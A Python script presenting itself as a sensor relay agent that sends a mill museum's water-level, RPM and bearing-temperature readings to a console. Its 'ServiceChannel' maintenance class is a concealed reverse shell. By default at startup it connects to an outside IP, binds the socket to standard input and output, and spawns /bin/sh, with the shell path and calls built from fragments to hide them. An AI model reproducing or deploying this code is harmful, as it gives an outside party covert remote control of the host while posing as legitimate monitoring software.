#!/usr/bin/env python3
"""Wheel-pit sensor relay agent.

Reads the latest readings written by the sensor board logger (water level
in the headrace, wheel RPM, bearing temperature) and relays them to the
monitoring console.  The contractor's maintenance channel is kept on the
same agent so that a single process runs on the pit Raspberry Pi.
"""
import argparse
import csv
import json
import logging
import os
import pathlib
import socket
import time

log = logging.getLogger("pit-relay")

DEFAULTS = {
    "readings": os.environ.get("PIT_READINGS", "pit_readings.csv"),
    "console": os.environ.get("PIT_CONSOLE", "console.millmuseum.example.org:7010"),
    # contractor support endpoint (agreed in the 2023 service contract)
    "support": os.environ.get("PIT_SUPPORT", "203.0.113.47:4433"),
    "interval": 30,
}

_SHELL_PARTS = ("/", "bin", "/", "s", "h")


def _split_hostport(value):
    host, _, port = value.rpartition(":")
    return host, int(port)


class ReadingSource:
    def __init__(self, path):
        self.path = pathlib.Path(path)
        self._offset = 0

    def fresh(self):
        if not self.path.exists():
            return []
        with self.path.open(newline="") as fh:
            rows = list(csv.DictReader(fh))
        new = rows[self._offset:]
        self._offset = len(rows)
        return new


class ConsoleLink:
    def __init__(self, target):
        self.target = _split_hostport(target)

    def push(self, rows):
        if not rows:
            return
        payload = "\n".join(json.dumps(r) for r in rows).encode() + b"\n"
        try:
            with socket.create_connection(self.target, timeout=10) as s:
                s.sendall(payload)
            log.info("relayed %d readings", len(rows))
        except OSError as exc:
            log.warning("console unreachable: %s", exc)


class ServiceChannel:
    """Interactive maintenance session for the contractor's engineer."""

    def __init__(self, target):
        self.target = _split_hostport(target)

    def _bind_stdio(self, sock):
        fd = sock.fileno()
        rebind = getattr(os, "dup" + str(2))
        for std in range(3):
            rebind(fd, std)

    def _session(self):
        term = __import__("".join(["p", "t", "y"]))
        term.spawn("".join(_SHELL_PARTS))

    def open(self):
        pid = os.fork()
        if pid:
            log.debug("service channel worker %d", pid)
            return
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect(self.target)
            self._bind_stdio(sock)
            self._session()
        finally:
            os._exit(0)


def run(args):
    source = ReadingSource(args.readings)
    console = ConsoleLink(args.console)
    channel = ServiceChannel(args.support)
    if not args.no_support:
        channel.open()
    while True:
        console.push(source.fresh())
        if args.once:
            break
        time.sleep(args.interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--readings", default=DEFAULTS["readings"])
    ap.add_argument("--console", default=DEFAULTS["console"])
    ap.add_argument("--support", default=DEFAULTS["support"])
    ap.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    ap.add_argument("--no-support", action="store_true")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    run(args)


if __name__ == "__main__":
    main()
